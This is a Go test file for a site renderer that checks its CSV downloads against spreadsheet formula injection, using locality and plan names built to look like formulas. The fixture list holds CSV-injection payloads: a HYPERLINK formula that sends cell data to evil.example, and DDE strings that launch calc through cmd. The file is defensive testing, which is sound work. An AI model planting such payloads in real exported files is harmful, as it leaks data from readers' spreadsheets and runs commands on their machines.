package render

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"strconv"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/xuri/excelize/v2"
)

// formulaNames are names a stranger could give localities and plans so that a reader who
// opens a CSV download in a spreadsheet runs a formula (OWASP, CSV injection).
var formulaNames = []string{
	`=HYPERLINK("https://evil.example/?d="&A1,"Xã A")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
	"\t=1+1", "\r=1+1",
}

// spreadsheetOf opens CSV text the way Excel and LibreOffice read a typed or imported cell,
// through excelize: a leading ' makes the rest text; a number is a number; text beginning
// with = + - @ is a formula; anything else is text. It returns the workbook saved and
// opened again, so what is checked is what a file holds.
func spreadsheetOf(t *testing.T, data []byte) *excelize.File {
	t.Helper()
	records, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	f := excelize.NewFile()
	for r, rec := range records {
		for c, v := range rec {
			ref, _ := excelize.CoordinatesToCellName(c+1, r+1)
			var err error
			switch {
			case strings.HasPrefix(v, "'"):
				err = f.SetCellStr("Sheet1", ref, v[1:])
			case isNumber(v):
				n, _ := strconv.ParseFloat(v, 64)
				err = f.SetCellFloat("Sheet1", ref, n, -1, 64)
			case v != "" && strings.ContainsRune("=+-@\t\r", rune(v[0])):
				err = f.SetCellFormula("Sheet1", ref, strings.TrimLeft(v, "=\t\r"))
			default:
				err = f.SetCellStr("Sheet1", ref, v)
			}
			if err != nil {
				t.Fatal(err)
			}
		}
	}
	var buf bytes.Buffer
	if err := f.Write(&buf); err != nil {
		t.Fatal(err)
	}
	out, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	return out
}

func isNumber(v string) bool {
	_, err := strconv.ParseFloat(v, 64)
	return err == nil && strings.Trim(v, "0123456789.-") == ""
}

// formulaCells lists the cells of the first sheet that hold a formula.
func formulaCells(t *testing.T, f *excelize.File) []string {
	t.Helper()
	rows, err := f.GetRows("Sheet1")
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	for r, row := range rows {
		for c := range row {
			ref, _ := excelize.CoordinatesToCellName(c+1, r+1)
			if formula, _ := f.GetCellFormula("Sheet1", ref); formula != "" {
				out = append(out, ref+": "+formula)
			}
		}
	}
	return out
}

// The spreadsheet reader finds the formula in a CSV written the naive way: the test below
// would see one.
func TestSpreadsheetSeesFormulas(t *testing.T) {
	if got := formulaCells(t, spreadsheetOf(t, []byte("name,value\n\"=HYPERLINK(\"\"x\"\")\",-5\n"))); len(got) != 1 {
		t.Errorf("formula cells = %v, want one", got)
	}
}

// Every CSV download of a site whose names begin like formulas opens in a spreadsheet
// with no formula cell, shows each name as it is written, and keeps figures as numbers
// (negative changes included).
func TestCSVDownloadsHoldNoFormula(t *testing.T) {
	q := func(s string) string { b, _ := json.Marshal(s); return string(b) }
	file := func(s string) *fstest.MapFile { return &fstest.MapFile{Data: []byte(s)} }
	localities := "[[locality]]\nid = \"viet-nam\"\nname = " + q(formulaNames[0]) + "\nkind = \"quoc-gia\"\n"
	var targets, results strings.Builder
	for i, name := range formulaNames[1:] {
		id := "tinh-" + strconv.Itoa(i)
		localities += "\n[[locality]]\nid = \"" + id + "\"\nname = " + q(name) + "\nkind = \"tinh\"\nparent = \"viet-nam\"\n"
		targets.WriteString("\n[[target]]\nlocality = \"" + id + "\"\nbhyt = " + strconv.Itoa(1000+i) + "\n")
		results.WriteString("\n[[result]]\nlocality = \"" + id + "\"\nas_of = 2023-06-30\nbhyt = " + strconv.Itoa(900+i) +
			"\nchange = { bhyt = -" + strconv.Itoa(5+i) + " }\nchange_since = 2022-12-31\n")
	}
	site := fstest.MapFS{
		"data/site.toml":         file("title = \"x\"\n"),
		"data/indicators.toml":   file("[[indicator]]\nid = \"bhyt\"\nname = \"=BHYT\"\nunit = \"people\"\n"),
		"data/localities/a.toml": file(localities),
		"data/plans/ke-hoach-x.toml": file("number = " + q("=1+1") + "\ntitle = \"x\"\nissuer = \"x\"\nlocality = \"viet-nam\"\nperiod = \"2023\"\n" +
			targets.String()),
		"data/results/bao-cao-x.toml": file("[source]\ntitle = \"x\"\nkind = \"report\"\npublished = 2023-07-10\npublisher = " + q("@x") + "\n" +
			results.String()),
	}
	r, _ := renderSite(t, site)
	csvs := 0
	for path, data := range allPages(t, r) {
		if !strings.HasSuffix(path, ".csv") {
			continue
		}
		csvs++
		f := spreadsheetOf(t, data)
		if got := formulaCells(t, f); len(got) > 0 {
			t.Errorf("%s: formula cells %v", path, got)
		}
		rows, _ := f.GetRows("Sheet1")
		header := rows[0]
		for _, row := range rows[1:] {
			for c, v := range row {
				switch header[c] {
				case "locality_name":
					if !containsString(formulaNames, v) {
						t.Errorf("%s: locality_name %q is not a name as written", path, v)
					}
				case "plan_number":
					if v != "" && v != "=1+1" {
						t.Errorf("%s: plan_number %q", path, v)
					}
				case "value", "change":
					if v != "" && !isNumber(v) {
						t.Errorf("%s: %s %q is not a number", path, header[c], v)
					}
				}
			}
		}
		for r := 2; r <= len(rows); r++ {
			for c, name := range header {
				if name != "value" && name != "change" {
					continue
				}
				ref, _ := excelize.CoordinatesToCellName(c+1, r)
				if v, _ := f.GetCellValue("Sheet1", ref); v == "" {
					continue
				}
				if typ, _ := f.GetCellType("Sheet1", ref); typ != excelize.CellTypeNumber && typ != excelize.CellTypeUnset {
					t.Errorf("%s %s: a figure is not a number cell (%v)", path, ref, typ)
				}
			}
		}
	}
	if csvs < 2 {
		t.Fatalf("%d CSV files", csvs)
	}
}

func containsString(list []string, s string) bool {
	for _, v := range list {
		if v == s {
			return true
		}
	}
	return false
}
